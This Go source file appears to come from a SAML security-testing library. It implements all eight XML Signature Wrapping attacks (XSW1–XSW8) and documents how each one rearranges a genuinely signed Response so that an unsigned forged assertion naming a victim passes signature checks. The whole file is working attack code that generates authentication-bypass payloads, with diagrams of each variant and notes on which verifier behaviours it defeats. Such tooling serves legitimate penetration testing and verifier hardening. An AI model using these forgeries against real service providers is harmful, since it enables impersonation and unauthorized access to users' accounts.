package samlattack

import (
	"github.com/beevik/etree"
)

// XSW returns XSW1 to XSW8, those that the input's signatures allow (XSW1
// and XSW2 for a signed Response, XSW3 to XSW8 for a signed Assertion). It
// fails when signed is not a Response or carries neither signature.
//
// The XML Signature Wrapping (XSW) attacks are numbered as in Somorovsky et
// al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security
// 2012), and in the SAML Raider tool. Each takes a genuine Response and
// moves the signed element to where the verifier still finds it by its ID,
// while an evil copy without a signature takes the place where the SP's
// reader looks for the identity. A verifier that checks "a signature in
// the document is valid" and a reader that takes "the Assertion" then talk
// about two different elements.
//
// The evil copies get their own IDs ("_evil" and the genuine ID), so that a
// lookup by ID finds the genuine element and its signature verifies (SAML
// Raider leaves the ID to its user, and its XSW7 and XSW8 keep the genuine
// one, which a first-match lookup by ID then resolves to the evil copy).
// The copies repeat the namespace declarations they had in scope, so that
// they canonicalize as they did in their old place (the exclusive
// canonicalization every SAML IdP uses; an inclusive one would see the new
// ancestors' namespaces and the wrapped signature would no longer verify).
//
// XSW1 and XSW2 wrap the Response's signature and return
// ErrResponseNotSigned when the Response has none; XSW3 to XSW8 wrap the
// Assertion's and return ErrAssertionNotSigned. A Response signature beside
// a signed Assertion is dropped by XSW3 to XSW8: their edit breaks it
// anyway, and an SP that checks the Response's signature only when there is
// one then goes on to the Assertion's.
func XSW(signed []byte, a Attacker) ([]Variant, error) {
	return run(signed, a, generators[:8])
}

// XSW1 needs a signed Response. The Response becomes the evil one: its ID
// changes and its Assertion names the victim, without a signature. A copy
// of the genuine Response, without its signature, is appended inside that
// signature (after KeyInfo), where the Reference still finds it by ID:
//
//	<Response ID="_evil…">
//	  <Issuer/>
//	  <Signature> <SignedInfo>#genuine…</SignedInfo> … <Response ID="genuine"/> </Signature>
//	  <Status/>
//	  <Assertion ID="_evil…"> victim </Assertion>
//	</Response>
//
// Live against: root, last (the first Assertion in document order is the
// genuine one, inside the Signature).
func XSW1(signed []byte, a Attacker) ([]byte, error) {
	return wrapResponse(signed, a, func(root, sig, genuine *etree.Element) {
		sig.AddChild(genuine)
	})
}

// XSW2 needs a signed Response. As XSW1, but the copy of the genuine
// Response goes before the signature, as the evil Response's child (the
// signature looks detached):
//
//	<Response ID="_evil…">
//	  <Issuer/>
//	  <Response ID="genuine"/>
//	  <Signature> #genuine </Signature>
//	  <Status/>
//	  <Assertion ID="_evil…"> victim </Assertion>
//	</Response>
//
// Live against: root, last.
func XSW2(signed []byte, a Attacker) ([]byte, error) {
	return wrapResponse(signed, a, func(root, sig, genuine *etree.Element) {
		root.InsertChildAt(sig.Index(), genuine)
	})
}

// wrapResponse makes XSW1 and XSW2: place puts the genuine copy of the
// Response in the evil one.
func wrapResponse(signed []byte, a Attacker, place func(root, sig, genuine *etree.Element)) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	sig := signatureOf(root)
	if sig == nil {
		return nil, ErrResponseNotSigned
	}
	as := children(root, nsAssertion, "Assertion")
	if len(as) == 0 {
		return nil, ErrNoAssertion
	}
	genuine := genuineCopy(root, sig)
	for _, as := range as {
		removeSignatures(as)
		as.CreateAttr("ID", evilID(as))
		if err := a.impersonate(as); err != nil {
			return nil, err
		}
	}
	root.CreateAttr("ID", evilID(root))
	place(root, sig, genuine)
	return write(doc)
}

// XSW3 needs a signed Assertion. An evil copy of the Assertion, without
// signature, is inserted before the signed one, in the Response:
//
//	<Response> <Issuer/> <Status/>
//	  <Assertion ID="_evil…"> victim </Assertion>
//	  <Assertion ID="genuine"> <Signature>#genuine</Signature> … </Assertion>
//	</Response>
//
// Live against: first, root.
func XSW3(signed []byte, a Attacker) ([]byte, error) {
	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
		assertion.Parent().InsertChildAt(assertion.Index(), evil)
		return nil
	})
}

// XSW4 needs a signed Assertion. The evil copy takes the Assertion's place
// and the genuine, signed Assertion becomes its last child:
//
//	<Response> <Issuer/> <Status/>
//	  <Assertion ID="_evil…"> victim
//	    <Assertion ID="genuine"> <Signature>#genuine</Signature> … </Assertion>
//	  </Assertion>
//	</Response>
//
// Live against: first, root, last (the genuine Assertion is read as a part
// of the evil one).
func XSW4(signed []byte, a Attacker) ([]byte, error) {
	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
		replace(assertion, evil)
		evil.AddChild(assertion)
		return nil
	})
}

// XSW5 needs a signed Assertion. The signed Assertion itself is made evil
// (its ID changes, it names the victim, it keeps the genuine signature,
// which no longer refers to it), and a copy of the genuine Assertion,
// without signature, is appended to the Response, where the Reference
// finds it by ID:
//
//	<Response> <Issuer/> <Status/>
//	  <Assertion ID="_evil…"> <Signature>#genuine</Signature> victim </Assertion>
//	  <Assertion ID="genuine"> … </Assertion>
//	</Response>
//
// Live against: first, root.
func XSW5(signed []byte, a Attacker) ([]byte, error) {
	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
		genuine := genuineCopy(assertion, sig)
		assertion.Parent().AddChild(genuine)
		return a.corrupt(assertion)
	})
}

// XSW6 needs a signed Assertion. As XSW5, but the copy of the genuine
// Assertion goes inside the genuine signature (after KeyInfo), which stays
// in the evil Assertion:
//
//	<Response> <Issuer/> <Status/>
//	  <Assertion ID="_evil…">
//	    <Signature> #genuine … <Assertion ID="genuine"/> </Signature>
//	    victim
//	  </Assertion>
//	</Response>
//
// Live against: first, root, last.
func XSW6(signed []byte, a Attacker) ([]byte, error) {
	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
		genuine := genuineCopy(assertion, sig)
		sig.AddChild(genuine)
		return a.corrupt(assertion)
	})
}

// XSW7 needs a signed Assertion. The evil copy goes into a samlp:Extensions
// element of the Response (whose schema admits any element of another
// namespace, so the document stays schema-valid; SAML Raider puts the
// Extensions right before the Assertion, past where the schema allows it);
// the signed Assertion stays where it was:
//
//	<Response> <Issuer/>
//	  <Extensions> <Assertion ID="_evil…"> victim </Assertion> </Extensions>
//	  <Status/>
//	  <Assertion ID="genuine"> <Signature>#genuine</Signature> … </Assertion>
//	</Response>
//
// Live against: first (not root: the evil Assertion is not the Response's
// child).
func XSW7(signed []byte, a Attacker) ([]byte, error) {
	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
		root := assertion.Parent()
		ext := newLike(root, "Extensions")
		insertAfter(root, ext, issuerName, signatureName)
		ext.AddChild(evil)
		return nil
	})
}

// XSW8 needs a signed Assertion. As XSW6, but the copy of the genuine
// Assertion is wrapped in a ds:Object, the signature's schema-valid place
// for arbitrary content:
//
//	<Response> <Issuer/> <Status/>
//	  <Assertion ID="_evil…">
//	    <Signature> #genuine … <Object> <Assertion ID="genuine"/> </Object> </Signature>
//	    victim
//	  </Assertion>
//	</Response>
//
// Live against: first, root, last.
func XSW8(signed []byte, a Attacker) ([]byte, error) {
	return wrapAssertion(signed, a, func(assertion, sig, evil *etree.Element) error {
		genuine := genuineCopy(assertion, sig)
		obj := newLike(sig, "Object")
		sig.AddChild(obj)
		obj.AddChild(genuine)
		return a.corrupt(assertion)
	})
}

// corrupt makes the signed assertion itself the evil one, its signature
// left in: a new ID, the victim's identity.
func (a Attacker) corrupt(assertion *etree.Element) error {
	assertion.CreateAttr("ID", evilID(assertion))
	return a.impersonate(assertion)
}

// wrapAssertion makes XSW3 to XSW8: place rearranges the signed assertion,
// its signature and an evil copy of it (which place may leave unused).
func wrapAssertion(signed []byte, a Attacker, place func(assertion, sig, evil *etree.Element) error) ([]byte, error) {
	doc, root, err := parseResponse(signed)
	if err != nil {
		return nil, err
	}
	assertion, sig, err := signedAssertion(root)
	if err != nil {
		return nil, err
	}
	evil, err := a.evilCopy(assertion)
	if err != nil {
		return nil, err
	}
	if s := signatureOf(root); s != nil {
		root.RemoveChild(s)
	}
	if err := place(assertion, sig, evil); err != nil {
		return nil, err
	}
	return write(doc)
}
